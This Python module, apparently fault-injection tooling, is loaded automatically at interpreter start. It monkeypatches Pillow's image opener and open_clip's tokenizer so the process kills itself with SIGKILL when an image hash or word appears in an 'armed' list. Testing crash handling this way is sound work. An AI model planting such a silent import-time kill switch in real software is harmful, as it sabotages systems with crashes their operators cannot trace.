"""On the path of one application's executors: makes the data that `armed` names deadly, as a bug in a library would.

Python imports a module of this name at its start, so the product needs no hook. `armed` holds words and sha1s of files.
"""

import hashlib
import os
import signal
from pathlib import Path
from typing import Any

import PIL.Image
from open_clip.tokenizer import SimpleTokenizer

ARMED = set(Path(__file__).with_name("armed").read_text().split())
open_image, split_word = PIL.Image.open, SimpleTokenizer.bpe


def die_of(what: str) -> None:
    """SIGKILL of this process if it was armed against this."""
    if what in ARMED:
        os.kill(os.getpid(), signal.SIGKILL)


def deadly_open(stream: Any, *args: Any, **options: Any) -> Any:
    """In place of Pillow's."""
    if hasattr(stream, "getvalue"):
        die_of(hashlib.sha1(stream.getvalue()).hexdigest())
    return open_image(stream, *args, **options)


def deadly_split(self: Any, token: str) -> Any:
    """In place of open_clip's."""
    die_of(token)
    return split_word(self, token)


PIL.Image.open = deadly_open
SimpleTokenizer.bpe = deadly_split
